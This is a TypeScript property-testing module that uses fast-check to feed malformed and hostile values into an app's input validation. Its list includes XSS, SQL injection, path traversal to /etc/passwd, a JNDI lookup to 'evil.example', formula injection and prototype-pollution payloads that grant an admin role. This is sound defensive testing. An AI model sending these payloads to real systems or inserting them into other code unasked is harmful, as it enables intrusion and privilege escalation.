import fc from 'fast-check';

const deep = (levels: number) => {
  let value: unknown = 'end';
  for (let n = 0; n < levels; n += 1) value = n % 2 ? [value] : { fleet: value };
  return value;
};

/** Values that the app’s forms never send. */
const HOSTILE: readonly unknown[] = [
  undefined,
  null,
  '',
  ' ',
  0,
  -1,
  1.5,
  1e9,
  -0,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.MAX_SAFE_INTEGER + 2,
  12n,
  '5abc',
  '1e9',
  '-1',
  'NaN',
  '\0',
  'a\0b',
  '\ud800',
  'x\udfffy',
  'a'.repeat(10_000),
  'ä'.repeat(10_000),
  '(a+)+$'.repeat(500),
  `cpu ${'1'.repeat(390)}%`,
  '* '.repeat(5_000),
  '1,'.repeat(2_000),
  '=cmd()',
  '\u202egnp.exe',
  '\u001b[2J',
  '<script>alert(1)</script>',
  "'; DROP TABLE change; --",
  '../../../etc/passwd',
  '${jndi:ldap://evil.example}',
  '__proto__',
  'constructor',
  'toString',
  [],
  [[]],
  ['123456789012/us-east-1/web'],
  {},
  { length: 1e9 },
  { toString: 'no function' },
  { then: 'no function' },
  JSON.parse('{"__proto__": {"role": "admin", "isAdmin": true}}'),
  { constructor: { prototype: { role: 'admin' } } },
  deep(2_000),
  Array.from({ length: 10_000 }, (_, n) => n),
  Object.fromEntries(Array.from({ length: 2_000 }, (_, n) => [`key${n}`, n])),
  new Date(Number.NaN),
  new Map([['fleet', 1]]),
  Symbol.iterator.toString(),
  true,
];

const hostile = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE) },
  { weight: 1, arbitrary: fc.anything({ withBigInt: true, withDate: true, withNullPrototype: true }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
);

type Fields = Record<string, unknown>;
type Mutation = (fields: Fields, pick: number, value: unknown) => unknown;

const keyAt = (fields: Fields, pick: number) =>
  Object.keys(fields)[pick % Math.max(1, Object.keys(fields).length)]!;

const MUTATIONS: Mutation[] = [
  (fields, pick, value) => ({ ...fields, [keyAt(fields, pick)]: value }),
  (fields, pick, value) => {
    const key = keyAt(fields, pick);
    const part = fields[key];
    return typeof part === 'object' && part !== null
      ? { ...fields, [key]: { ...part, [keyAt(part as Fields, pick)]: value } }
      : { ...fields, [key]: value };
  },
  (fields, pick) => Object.fromEntries(Object.entries(fields).filter(([key]) => key !== keyAt(fields, pick))),
  (fields, _pick, value) => ({ ...fields, extra: value }),
  (fields, pick) => ({ ...fields, [keyAt(fields, pick)]: [fields[keyAt(fields, pick)]] }),
  (fields) =>
    JSON.parse(`{"__proto__": {"role": "admin"}, ${JSON.stringify(fields).slice(1)}`.replace(', }', '}')),
  (_fields, _pick, value) => value,
  (fields) => [fields, fields],
];

/** A valid input with one thing made invalid. */
export const mutated = (right: fc.Arbitrary<unknown>): fc.Arbitrary<unknown> =>
  fc
    .tuple(right, fc.constantFrom(...MUTATIONS), fc.nat(20), hostile)
    .map(([input, mutate, pick, value]) => mutate((input ?? {}) as Fields, pick, value));
